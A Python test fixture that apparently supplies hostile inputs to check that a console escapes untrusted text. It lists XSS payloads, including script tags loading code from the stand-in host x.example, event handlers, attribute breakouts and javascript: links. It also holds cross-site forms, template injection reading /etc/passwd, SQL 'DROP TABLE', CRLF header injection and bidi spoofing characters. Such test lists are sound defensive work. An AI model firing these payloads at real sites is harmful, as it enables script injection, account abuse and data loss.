"""What strangers write to get a console to do something: each of these must be shown as text, wherever it stands.

The values may be sent by mail, stood in a list, or typed in by an operator. `UNSEEN` are the characters that a page must not
hand on as they are: they hide text, or turn it round.
"""

from __future__ import annotations

from typing import Final

CANARY: Final = "pwned-canary"  # in an attribute or a script of a page: something was not escaped

PAYLOADS: Final[dict[str, str]] = {
    # elements that run something
    "script": f"<script>window.name='{CANARY}'</script>",
    "script in capitals": f"<ScRiPt SRC=//x.example/{CANARY}.js></sCrIpT>",
    "script, broken off": f"<script src=//x.example/{CANARY}",
    "script, doubled": f"<scr<script>ipt>{CANARY}</scr</script>ipt>",
    "script with a slash": f"<script/x>{CANARY}</script/x>",
    "script behind a NUL": f"<scr\0ipt>{CANARY}</scr\0ipt>",
    "iframe": f"<iframe srcdoc='<script>{CANARY}</script>'></iframe>",
    "iframe javascript": f"<iframe src=javascript:{CANARY}()>",
    "object": f"<object data='data:text/html;base64,PHNjcmlwdD4=' id={CANARY}></object>",
    "embed": f"<embed src=data:image/svg+xml;base64,PHN2Zz4= title={CANARY}>",
    "base": f"<base href=//x.example/{CANARY}/>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url=//x.example/{CANARY}">',
    "link stylesheet": f"<link rel=stylesheet href=//x.example/{CANARY}.css>",
    "style element": f"<style>body{{background:url(//x.example/{CANARY})}}</style>",
    "style import": f"<style>@import '//x.example/{CANARY}';</style>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={CANARY}()></style></table></mtext></math>",
    "template element": f"<template><img src=x onerror={CANARY}()></template>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={CANARY}()>'>",
    # handlers
    "img onerror": f"<img src=x onerror={CANARY}()>",
    "img onerror, no space": f"<img/src=x/onerror={CANARY}()>",
    "svg onload": f"<svg onload={CANARY}()>",
    "svg script": f"<svg><script>{CANARY}()</script></svg>",
    "svg animate": f"<svg><animate onbegin={CANARY}() attributeName=x dur=1s>",
    "svg use": f"<svg><use href='data:image/svg+xml,<svg id={CANARY}/>#{CANARY}'/></svg>",
    "svg foreignObject": f"<svg><foreignObject><body onload={CANARY}()></foreignObject></svg>",
    "body onload": f"<body onload={CANARY}()>",
    "details ontoggle": f"<details open ontoggle={CANARY}()>",
    "autofocus": f"<input autofocus onfocus={CANARY}()>",
    "marquee": f"<marquee onstart={CANARY}()>",
    "video": f"<video><source onerror={CANARY}()></video>",
    # out of attributes
    "double quote": f'" onmouseover="{CANARY}()" x="',
    "single quote": f"' onmouseover='{CANARY}()' x='",
    "back quote": f"` onmouseover=`{CANARY}()` x=`",
    "quote and bracket": f'"><img src=x onerror={CANARY}()>',
    "quote in address": f'"<img src=x onerror={CANARY}()>"@x.example',
    # links
    "javascript link": f"javascript:{CANARY}()",
    "javascript link, spelt": f"<a href=' &#1;jAvA&#x0A;sCrIpT:{CANARY}()'>x</a>",
    "data link": f"data:text/html,<script>{CANARY}()</script>",
    "vbscript link": f"vbscript:{CANARY}",
    "link to our forms": f"<a href=/console/logout>{CANARY}</a>",
    "form to us": f"<form method=post action=/console/suppress><input name=address value={CANARY}@x.example></form>",
    "formaction": f"<button formaction=//x.example/{CANARY}>Accept</button>",
    # out of our own elements
    "end of pre": f"</pre></section></main></body></html>{CANARY}",
    "end of mark": f"</mark></blockquote></dd></dl>{CANARY}",
    "end of table": f"</td></tr></table></form>{CANARY}",
    "end of title": f"</title><script>{CANARY}</script>",
    "end of textarea": f"</textarea></select></option>{CANARY}",
    "comment": f"<!-- {CANARY}",
    "end of comment": f"--> <!--> {CANARY} --!>",
    "CDATA": f"<![CDATA[ {CANARY} ]]>",
    "processing instruction": f"<?php echo '{CANARY}'; ?>",
    "entity": f"&lt;script&gt;{CANARY}&lt;/script&gt;&amp;&#60;&NotEqualTilde;",
    # templates, formats, shells, tables
    "jinja expression": "{{7*7}}{{ request }}" + CANARY,
    "jinja statement": "{% include '/etc/passwd' %}{# " + CANARY + " #}",
    "other templates": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(1)')()}}" + CANARY,
    "python format": "{0.__class__} %s %(x)s %n " + CANARY,
    "formula": f'=HYPERLINK("//x.example/{CANARY}","x")',
    "css": f"expression({CANARY}()); }} body {{ display: none }} /*",
    "SQL": f"' OR 1=1; DROP TABLE review; -- {CANARY}",
    # characters
    "bidi override": f"\u202e{CANARY}\u202c\u2066evil\u2069",
    "bidi spoof of an address": f"\u202emoc.elpmaxe@nna\u202c {CANARY}",
    "right to left": f"שלום עולם {CANARY} مرحبا",
    "zero width": f"a\u200bd\u200bm\u2060i\ufeffn {CANARY}",
    "soft hyphen": f"un\xadsub\xadscribe {CANARY}",
    "emoji tags": f"\U0001f3f4\U000e0067\U000e0062\U000e007f {CANARY}",
    "emoji": f"👩‍👩‍👧‍👦 ✅ {CANARY}",
    "combining": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢ " + CANARY,
    "controls": f"\x01\x02\x07\x08\x0b\x0c\x1b[31m{CANARY}\x7f\x85\x9b",
    "line separators": f"one\u2028two\u2029{CANARY}",
    "CR and LF": f"Set-Cookie: a=b\r\n\r\n<html>{CANARY}",
    "overlong": "W" * 5_000 + CANARY,
    "many lines": "\n" * 400 + CANARY,
    "noncharacters": f"\ufffe\uffff\ufdd0 {CANARY}",
    "full width": f"＜script＞{CANARY}＜/script＞",
    "UTF-7": f"+ADw-script+AD4-{CANARY}+ADw-/script+AD4-",
}  # fmt: skip

UNSEEN: Final = (
    *map(chr, [*range(9), 11, 12, *range(14, 32), *range(0x7F, 0xA0), 0x61C]),
    *map(chr, [0x200E, 0x200F, *range(0x2028, 0x202F), *range(0x2066, 0x206A), *range(0xFFF9, 0xFFFC)]),
    *map(chr, range(0xE0000, 0xE0080)),
    *map(chr, range(0xD800, 0xE000)),
)
